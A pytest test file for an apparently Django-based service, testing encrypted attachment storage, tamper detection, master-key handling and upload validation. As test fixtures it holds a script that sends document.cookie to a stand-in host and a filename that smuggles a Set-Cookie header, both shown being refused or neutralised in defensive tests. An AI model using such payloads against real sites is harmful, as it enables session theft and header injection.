"""Attachments at rest: ciphertext on disk, plaintext only through an audited download."""

from __future__ import annotations

import base64
import hashlib
import shutil
from pathlib import Path

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile, UploadedFile
from django.db import connection
from django.test import Client as HttpClient

from relaydesk.accounts.actions import do_create_api_token
from relaydesk.audit.models import AuditRecord
from relaydesk.catalog.models import Service
from relaydesk.errors import Invalid
from relaydesk.vault.actions import current_data_key
from relaydesk.vault.keys import ENV_MASTER_KEY, read_key_file, write_key_file
from relaydesk.vault.models import ClientDataKey
from relaydesk.work.actions import NewWorkItem, do_add_attachment, do_submit_work_item
from relaydesk.work.models import Attachment, WorkItem
from tests.conftest import World, login, now, submit

SECRET = b"CONFIDENTIAL-MEDICAL-RECORD-4471"
# A PDF of several encryption segments, with the secret repeated throughout.
RECORD = b"%PDF-1.4\n" + (SECRET + b" itemised charges CPT 99213 $240.00\n") * 5000
TAMPERED = "This file cannot be decrypted; it may have been tampered with."


@pytest.fixture(autouse=True)
def _no_master_key_in_environment(monkeypatch: pytest.MonkeyPatch) -> None:
    """The master key comes from the per-test key file (tests/conftest.py), never the shell."""
    monkeypatch.delenv(ENV_MASTER_KEY, raising=False)
    monkeypatch.delenv("RELAYDESK_NEW_MASTER_KEY", raising=False)


def bearer(user) -> HttpClient:
    _, secret = do_create_api_token(user, name="vault tests")
    return HttpClient(HTTP_AUTHORIZATION=f"Bearer {secret}")


def attach(world: World, data: bytes = RECORD, name: str = "records.pdf", client: str = "a"):
    """An item of client A (or B) with one uploaded file, through the real action."""
    if client == "a":
        item = submit(world.member_a, world.engagement_a, "document-processing")
        owner = world.member_a
    else:
        item = submit(world.member_b, world.engagement_b, "data-entry")
        owner = world.member_b
    attachment = do_add_attachment(owner, item, SimpleUploadedFile(name, data, "application/pdf"))
    return item, attachment


def api_download(user, attachment: Attachment):
    return bearer(user).get(
        f"/api/v1/work-items/{attachment.item_id}/attachments/{attachment.pk}/content"
    )


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def stored_path(attachment: Attachment) -> Path:
    return Path(attachment.file.path)


def raw_rows(table: str, pk_field: str, pk: int) -> bytes:
    with connection.cursor() as cursor:
        cursor.execute(f"SELECT * FROM {table} WHERE {pk_field} = %s", [pk])
        row = cursor.fetchone()
    return b"|".join(
        bytes(value) if isinstance(value, (bytes, memoryview)) else str(value).encode()
        for value in row
    )


def test_the_disk_and_the_database_hold_only_ciphertext(world: World) -> None:
    _, attachment = attach(world)
    on_disk = stored_path(attachment).read_bytes()
    assert SECRET not in on_disk and b"%PDF" not in on_disk
    assert len(on_disk) > len(RECORD)
    assert SECRET not in raw_rows("work_attachment", "id", attachment.pk)
    _, data_key = current_data_key(world.client_a.pk, at=now())
    key_row = ClientDataKey.objects.get(client=world.client_a)
    assert data_key not in raw_rows("vault_clientdatakey", "id", key_row.pk)
    assert base64.b64encode(data_key) not in raw_rows("vault_clientdatakey", "id", key_row.pk)
    # The metadata describes the plaintext.
    assert attachment.size == len(RECORD)
    assert attachment.sha256 == hashlib.sha256(RECORD).hexdigest()
    assert attachment.content_type == "application/pdf" and attachment.file_kind == "pdf"


def test_a_download_returns_the_exact_plaintext_and_is_audited(world: World) -> None:
    item, attachment = attach(world)
    response = api_download(world.member_a, attachment)
    assert response.status_code == 200
    assert body(response) == RECORD
    assert response["Content-Type"] == "application/octet-stream"
    assert response["X-Content-Type-Options"] == "nosniff"
    assert response["Content-Length"] == str(len(RECORD))
    assert response["Content-Disposition"] == 'attachment; filename="records.pdf"'
    page = login(world.member_a).get(f"/items/{item.pk}/attachments/{attachment.pk}/")
    assert page.status_code == 200 and body(page) == RECORD
    assert AuditRecord.objects.filter(action="attachment.download").count() == 2


def test_the_minimal_pdf_of_the_shared_fixtures_is_accepted(world: World) -> None:
    item = submit(world.member_a, world.engagement_a, with_file=True)
    attachment = item.attachments.get()
    assert body(api_download(world.member_a, attachment)) == b"%PDF-1.4 claim"


@pytest.mark.parametrize("victim", ["other client", "same client"])
def test_a_blob_copied_over_another_attachment_fails_to_decrypt(world: World, victim: str) -> None:
    _, source = attach(world, RECORD)
    if victim == "other client":
        item, target = attach(world, b"%PDF-1.4 bravo's own invoice", client="b")
        reader = world.member_b
    else:
        item, target = attach(world, b"%PDF-1.4 another alpha record")
        reader = world.member_a
    shutil.copyfile(stored_path(source), stored_path(target))

    response = api_download(reader, target)

    assert response.status_code == 409
    assert response.json() == {"detail": TAMPERED}
    assert SECRET not in response.content
    failure = AuditRecord.objects.get(action="attachment.decrypt_failed")
    assert failure.object_id == str(target.pk) and failure.client_id == target.client_id
    assert not AuditRecord.objects.filter(action="attachment.download").exists()
    page = login(reader).get(f"/items/{item.pk}/attachments/{target.pk}/")
    assert page.status_code == 409
    assert TAMPERED.replace("'", "&#x27;") in page.content.decode()


def test_a_flipped_byte_on_disk_fails_to_decrypt(world: World) -> None:
    _, attachment = attach(world)
    path = stored_path(attachment)
    data = bytearray(path.read_bytes())
    data[len(data) // 2] ^= 0x01
    path.write_bytes(bytes(data))
    response = api_download(world.member_a, attachment)
    assert response.status_code == 409 and response.json()["detail"] == TAMPERED


def test_a_wrong_master_key_fails_and_a_lost_one_is_not_silently_replaced(
    world: World, settings, tmp_path: Path
) -> None:
    _, attachment = attach(world)
    other = tmp_path / "other.key"
    write_key_file(other, b"\x07" * 32)
    settings.RELAYDESK_MASTER_KEY_FILE = str(other)
    response = api_download(world.member_a, attachment)
    assert response.status_code == 409 and response.json()["detail"] == TAMPERED
    reason = AuditRecord.objects.get(action="attachment.decrypt_failed").detail["reason"]
    assert "configured master key" in reason

    missing = tmp_path / "gone.key"
    settings.RELAYDESK_MASTER_KEY_FILE = str(missing)
    assert api_download(world.member_a, attachment).status_code == 409
    assert not missing.exists()
    refused = bearer(world.member_a).post(
        f"/api/v1/work-items/{attachment.item_id}/attachments",
        {"file": SimpleUploadedFile("more.pdf", b"%PDF-1.4 more", "application/pdf")},
    )
    assert refused.status_code == 409
    assert "encryption key is not available" in refused.json()["detail"]
    assert not missing.exists()


def test_the_first_file_creates_a_private_master_key_file(world: World, settings) -> None:
    path = Path(settings.RELAYDESK_MASTER_KEY_FILE)
    assert not path.exists()
    attach(world)
    assert path.stat().st_mode & 0o777 == 0o600
    assert len(base64.b64decode(path.read_text())) == 32
    assert ClientDataKey.objects.get().master_key_id == read_key_file(path).id
    assert AuditRecord.objects.filter(action="vault.data_key.create").count() == 1


def test_a_master_key_from_the_environment_wins(
    world: World, settings, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv(ENV_MASTER_KEY, base64.b64encode(b"\x05" * 32).decode())
    _, attachment = attach(world)
    assert not Path(settings.RELAYDESK_MASTER_KEY_FILE).exists()
    assert body(api_download(world.member_a, attachment)) == RECORD
    monkeypatch.delenv(ENV_MASTER_KEY)
    assert api_download(world.member_a, attachment).status_code == 409


@pytest.mark.parametrize(
    ("name", "data", "message"),
    [
        (
            "bill.pdf",
            b"MZ\x90\x00\x03" + b"\x00" * 500,
            "The file 'bill.pdf' is a Windows executable, not a PDF; it was not stored.",
        ),
        (
            "bill.pdf",
            b"<html><body><script>document.location='https://x.test/'+document.cookie</script>",
            "The file 'bill.pdf' is an HTML page, not a PDF; it was not stored.",
        ),
    ],
    ids=["renamed exe", "html renamed pdf"],
)
def test_hostile_uploads_are_refused_and_nothing_is_stored(
    world: World, settings, name: str, data: bytes, message: str
) -> None:
    item = submit(world.member_a, world.engagement_a, "document-processing")
    response = bearer(world.member_a).post(
        f"/api/v1/work-items/{item.pk}/attachments",
        {"file": SimpleUploadedFile(name, data, "application/pdf")},
    )
    assert response.status_code == 422
    assert response.json()["detail"] == message
    page = login(world.member_a).post(
        f"/items/{item.pk}/attachments/",
        {"file": SimpleUploadedFile(name, data, "application/pdf"), "visibility": "client"},
    )
    assert page.status_code == 422
    assert not Attachment.objects.exists()
    media = Path(settings.MEDIA_ROOT)
    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))


def test_an_over_size_file_is_refused_and_nothing_is_stored(world: World, settings) -> None:
    settings.RELAYDESK_MAX_UPLOAD_BYTES = 1000
    item = submit(world.member_a, world.engagement_a, "document-processing")
    response = bearer(world.member_a).post(
        f"/api/v1/work-items/{item.pk}/attachments",
        {"file": SimpleUploadedFile("big.pdf", b"%PDF-1.4 " + b"x" * 1000, "application/pdf")},
    )
    assert response.status_code == 422
    assert response.json()["detail"] == (
        "The file 'big.pdf' is 1,009 bytes; the limit is 1,000 bytes."
    )
    assert not Attachment.objects.exists()
    media = Path(settings.MEDIA_ROOT)
    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))


def test_intake_with_one_bad_file_stores_no_item_and_no_file(world: World, settings) -> None:

    files: list[UploadedFile] = [
        SimpleUploadedFile("good.pdf", b"%PDF-1.4 fine", "application/pdf"),
        SimpleUploadedFile("scan.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 40, "image/png"),
    ]
    request = NewWorkItem(
        engagement_id=world.engagement_b.pk, service_slug="customer-support", title="Refund batch"
    )
    # Customer support takes images too; narrow its list to see the service's list enforced.
    Service.objects.filter(slug="customer-support").update(allowed_file_types=["pdf"])
    with pytest.raises(Invalid, match="is a PNG image; the service 'Customer support' accepts"):
        do_submit_work_item(world.member_b, request, files=files)
    assert not WorkItem.objects.exists() and not Attachment.objects.exists()
    media = Path(settings.MEDIA_ROOT)
    assert not media.exists() or not any(p.is_file() for p in media.rglob("*"))


def test_the_download_name_is_safe_whatever_was_uploaded(world: World) -> None:
    item = submit(world.member_a, world.engagement_a, "document-processing")
    hostile = 'bill"; filename=evil.exe\r\nSet-Cookie: x=1\n Müller – Akte.pdf'
    attachment = do_add_attachment(
        world.member_a, item, SimpleUploadedFile(hostile, b"%PDF-1.4 akte", "application/pdf")
    )
    response = api_download(world.member_a, attachment)
    header = response["Content-Disposition"]
    assert body(response) == b"%PDF-1.4 akte"
    assert (
        "\r" not in header
        and "\n" not in header
        and '"' not in header.removeprefix("attachment; filename=").strip('"')
    )
    assert header.startswith("attachment; filename*=utf-8''")
    assert "M%C3%BCller" in header
    assert "Set-Cookie" not in response
    assert "/" not in attachment.original_name and "\n" not in attachment.original_name


def test_seeded_services_carry_an_allow_list(db: None) -> None:
    kinds = dict(Service.objects.values_list("slug", "allowed_file_types"))
    assert set(kinds["email-handling"]) == {"pdf", "office", "image", "email", "text"}
    assert set(kinds["data-entry"]) == {"pdf", "image", "office", "text"}
    assert all("text" in allowed and "pdf" in allowed for allowed in kinds.values())
